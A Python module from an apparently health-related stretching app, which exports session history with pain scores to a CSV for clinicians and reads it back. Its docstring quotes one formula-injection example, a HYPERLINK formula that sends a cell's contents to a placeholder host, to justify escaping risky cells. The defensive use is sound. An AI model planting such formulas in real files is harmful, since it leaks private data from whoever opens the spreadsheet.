"""The session history as a CSV file a clinician's spreadsheet opens, and back.

One row per session, oldest first. The first columns are for people (date,
times, minutes, holds done of planned, outcome, stretches skipped, pain before
and after, the routine followed); the last, ``holds``, spells out every planned
hold as JSON (stretch id, side, seconds, done, name), so :func:`read_csv`
rebuilds the records exactly, ids included. The columns' names and values are
English, the same on every computer; the routine and stretch names are as the
person saw them.

The file is UTF-8 with a byte order mark ("utf-8-sig"): Excel on Windows reads
a CSV without one in the system's legacy code page and garbles "é" or "“",
and with one it reads UTF-8; LibreOffice, Numbers, pandas and Python's csv
module (with "utf-8-sig") read it either way. Separators are commas and
decimal points (RFC 4180); a spreadsheet set to a comma-decimal locale may
need its import dialog, which it offers.

No cell can run as a formula. Names come from routine files a stranger may have
written, and a spreadsheet runs a cell such as ``=HYPERLINK("http://x.example/?"&A1,
"click")`` when the clinician opens the file; so, as OWASP recommends, a text cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or with the
quote itself, so that reading back is exact) gets a single quote in front, which
spreadsheets show as text. Numbers and dates are written as they are.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import tempfile
from collections.abc import Iterable
from datetime import datetime
from pathlib import Path
from typing import Any

from backspasm_gui.core.errors import ContentError
from backspasm_gui.core.history import HoldRecord, SessionRecord
from backspasm_gui.core.i18n import translate

ENCODING = "utf-8-sig"
COLUMNS = (
    "id",
    "date",
    "started",
    "ended",
    "minutes",
    "holds_done",
    "holds_planned",
    "outcome",
    "skipped",
    "pain_before",
    "pain_after",
    "routine",
    "holds",
)
ADDED = frozenset({"routine"})  # later columns: a file from before them reads without
IN_PROGRESS = "in progress"  # the outcome of a session still running at export
SIDES = (None, "left", "right")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?", re.ASCII)  # plain: a spreadsheet reads it so


class ExportError(OSError):
    """The CSV file could not be written; ``str()`` is one sentence for the person,
    ``strerror`` the system's reason."""

    def __init__(self, path: Path, cause: OSError) -> None:
        reason = cause.strerror or str(cause) or type(cause).__name__
        super().__init__(cause.errno, reason, str(path))
        self.path = path

    def __str__(self) -> str:
        return translate(
            "CsvExport", "The sessions could not be saved to {path}: {reason}."
        ).format(path=self.path, reason=self.strerror)


def row(record: SessionRecord, handout: str = "") -> dict[str, str]:
    """One session as the CSV's cells; ``handout`` names the routine of a session
    stored before routines were recorded (it followed the handout's)."""
    outcome = IN_PROGRESS if record.in_progress else record.outcome
    holds = [
        {
            "stretch_id": hold.stretch_id,
            "side": hold.side,
            "seconds": hold.seconds,
            "done": hold.done,
            "name": hold.stretch_name,
        }
        for hold in record.holds
    ]
    cells = {
        "id": "" if record.id is None else str(record.id),
        "date": record.day.isoformat(),
        "started": record.started.isoformat(),
        "ended": record.ended.isoformat(),
        "minutes": f"{record.minutes:.1f}",
        "holds_done": str(record.holds_done),
        "holds_planned": str(record.holds_planned),
        "outcome": outcome,
        "skipped": "; ".join(record.skipped),
        "pain_before": _optional(record.pain_before),
        "pain_after": _optional(record.pain_after),
        "routine": record.routine or handout,
        "holds": json.dumps(holds, ensure_ascii=False, separators=(",", ":")),
    }
    return {column: as_text(value) for column, value in cells.items()}


def as_text(cell: str) -> str:
    """``cell`` as a spreadsheet will take it as text, never as a formula."""
    if cell.startswith((*FORMULA_STARTS, QUOTE)) and not _is_number(cell):
        return QUOTE + cell
    return cell


def from_text(cell: str) -> str:
    """The text :func:`as_text` was given."""
    return cell.removeprefix(QUOTE)


def _is_number(cell: str) -> bool:
    return _NUMBER.fullmatch(cell) is not None


def write_csv(records: Iterable[SessionRecord], path: Path, handout: str = "") -> None:
    """Write ``records`` to ``path``, oldest first, all at once: a reader never sees
    half a file and a failure leaves what was there. ``handout`` is the title of the
    handout's routine, written for sessions that name none. Raises :class:`ExportError`."""
    path = Path(path)
    rows = [row(r, handout) for r in sorted(records, key=lambda r: (r.started, r.id or 0))]
    temporary: str | None = None
    try:
        handle, temporary = tempfile.mkstemp(
            prefix=f".{path.name}.", suffix=".tmp", dir=path.parent
        )
        with os.fdopen(handle, "w", encoding=ENCODING, newline="") as out:
            writer = csv.DictWriter(out, fieldnames=COLUMNS)
            writer.writeheader()
            writer.writerows(rows)
            out.flush()
            os.fsync(out.fileno())
        # mkstemp made it readable by its owner alone, and so it stays: the person
        # hands their pain diary on deliberately, it is not for everyone on the computer.
        os.replace(temporary, path)
        temporary = None
    except OSError as exc:
        raise ExportError(path, exc) from exc
    finally:
        if temporary is not None:
            with contextlib.suppress(OSError):
                os.unlink(temporary)


def read_csv(path: Path) -> list[SessionRecord]:
    """The records in a file :func:`write_csv` wrote. Raises :class:`ContentError`
    naming a row it cannot read (and OSError if the file cannot be read); its
    messages are English, as the file's columns and values are."""
    path = Path(path)
    with path.open(encoding=ENCODING, newline="") as source:
        reader = csv.DictReader(source)
        missing = [c for c in COLUMNS if c not in (reader.fieldnames or ()) and c not in ADDED]
        if missing:
            raise ContentError(
                path.name, f"missing column(s) {', '.join(missing)}", context="row 1"
            )
        records = []
        # Rows counted as a spreadsheet shows them (the header is row 1): a name
        # with a line break makes a row longer than one line of the file.
        for number, cells in enumerate(reader, start=2):
            try:
                records.append(_record(cells))
            except (KeyError, TypeError, ValueError) as exc:
                raise ContentError(path.name, str(exc), context=f"row {number}") from exc
    return records


def _record(cells: dict[str, Any]) -> SessionRecord:
    outcome = cells["outcome"]
    if outcome not in ("finished", "stopped early", IN_PROGRESS):
        raise ValueError(
            f"outcome is 'finished', 'stopped early' or 'in progress', got {outcome!r}"
        )
    holds = json.loads(cells["holds"])
    if not isinstance(holds, list):
        raise ValueError("'holds' is not a list")
    return SessionRecord(
        started=datetime.fromisoformat(cells["started"]),
        ended=datetime.fromisoformat(cells["ended"]),
        holds=tuple(_hold(item) for item in holds),
        finished=outcome == "finished",
        in_progress=outcome == IN_PROGRESS,
        pain_before=_int(cells["pain_before"]),
        pain_after=_int(cells["pain_after"]),
        id=_int(cells["id"]),
        routine=from_text(cells.get("routine") or ""),
    )


def _hold(item: Any) -> HoldRecord:
    if not isinstance(item, dict):
        raise ValueError(f"a hold is an object, got {item!r}")
    stretch_id, name, side = item["stretch_id"], item["name"], item["side"]
    seconds, done = item["seconds"], item["done"]
    if not (isinstance(stretch_id, str) and isinstance(name, str) and side in SIDES):
        raise ValueError(f"a hold's stretch_id, name or side is wrong: {item!r}")
    if isinstance(seconds, bool) or not isinstance(seconds, int) or not isinstance(done, bool):
        raise ValueError(f"a hold's seconds or done is wrong: {item!r}")
    return HoldRecord(stretch_id, name, side, seconds, done)


def _optional(value: int | None) -> str:
    return "" if value is None else str(value)


def _int(text: str) -> int | None:
    return int(text) if text.strip() else None
